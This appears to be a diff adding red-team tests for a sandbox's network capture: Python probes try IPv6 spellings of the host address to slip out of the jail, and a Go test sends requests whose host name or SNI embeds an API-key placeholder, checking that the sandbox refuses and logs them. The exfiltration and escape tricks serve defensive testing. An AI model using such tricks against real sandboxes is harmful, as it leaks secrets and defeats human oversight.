@@ -106,6 +106,9 @@ def addr(hostip, wide, udpport):
     attempt("mapped-host", lambda: tcp(A6, ("::ffff:" + hostip, wide), get("/attack-mapped", hw)))
     attempt("mapped-loopback", lambda: tcp(A6, ("::ffff:127.0.0.1", wide)))
     attempt("v6-loopback", lambda: tcp(A6, ("::1", wide)))
+    attempt("v6-nat64", lambda: tcp(A6, ("64:ff9b::" + hostip, wide)))
+    attempt("v6-compat", lambda: tcp(A6, ("::" + hostip, wide)))
+    attempt("v6-translated", lambda: tcp(A6, ("::ffff:0:" + hostip, wide)))
     attempt("zero", lambda: tcp(A, ("0.0.0.0", wide)))
     attempt("lo2", lambda: tcp(A, ("127.0.0.2", wide)))
     attempt("lo-top", lambda: tcp(A, ("127.255.255.254", wide)))
@@ -292,6 +295,10 @@ func TestRedCaptureAddressTricks(t *testing.T) {
 		for _, k := range []string{"mapped-loopback", "v6-loopback", "zero", "lo2", "lo-top"} {
 			// The jail's loopback is its own: nothing listens on the port there.
 			wantKV(t, r, k, is("ECONNREFUSED"), "ECONNREFUSED (the jail's own loopback)")
+		}
+		for _, k := range []string{"v6-nat64", "v6-compat", "v6-translated"} {
+			// IPv6 spellings of the host's IPv4 address are IPv6: no route.
+			wantKV(t, r, k, is("ENETUNREACH"), "ENETUNREACH (IPv6 has no route)")
 		}
 		wantKV(t, r, "bind-eth", is("ENODEV"), "ENODEV (the jail has no other interface)")
 		for _, k := range []string{"mark", "transparent", "raw"} {
@@ -662,6 +669,46 @@ func TestRedCapturePassthroughECH(t *testing.T) {
 		}
 		if d, ok := findDecision(ds, "192.0.2.90", ""); ok && d.Verdict != "deny" {
 			t.Errorf("the captured ECH ClientHello is logged as %v", d)
+		}
+	})
+}
+
+// A captured connection whose server name or Host header carries a
+// secret's placeholder is refused as an exfiltration attempt before any
+// decision on the name, and reaches no server.
+func TestRedCaptureSecretInName(t *testing.T) {
+	t.Parallel()
+	forEachRunner(t, func(t *testing.T, s *Sandbox) {
+		t.Parallel()
+		g := setupSecrets(t, s, []string{"MY_API_KEY"}, nil, nil)
+		r := s.Sh(probeSh + unsetProxy + `
+			echo session=$JAIL_SESSION
+			h="$MY_API_KEY.` + otherHost + `"
+			probe sni --resolve "$h:443:192.0.2.95" "https://$h/attack-secret-sni"
+			probe host --resolve "$h:80:192.0.2.96" "http://$h/attack-secret-host"
+			probe control --resolve "` + otherHost + `:443:192.0.2.97" "https://` + otherHost + `/control"`)
+		ps := probes(t, r)
+		if p := getProbe(t, ps, r, "control"); p.Exit != 0 || p.HTTP != "200" {
+			t.Errorf("control: a captured request to %s failed: %s", otherHost, p)
+		}
+		for _, name := range []string{"sni", "host"} {
+			wantNoRoute(t, getProbe(t, ps, r, name))
+		}
+		for _, srv := range []*echoServer{g.Bound, g.Other} {
+			for _, p := range []string{"/attack-secret-sni", "/attack-secret-host"} {
+				if len(srv.At(p)) != 0 {
+					t.Errorf("a request naming a placeholder in its host reached an upstream at %s", p)
+				}
+			}
+		}
+		var refused int
+		for _, d := range decisions(t, s, sessionOf(t, r)) {
+			if d.Method == "CAPTURE" && d.Verdict == "deny" && d.Rule == "secret" && strings.Contains(d.Reason, "in the host name") {
+				refused++
+			}
+		}
+		if refused != 2 {
+			t.Errorf("the log shows %d captured connections refused for a placeholder in the host name, want 2", refused)
 		}
 	})
 }
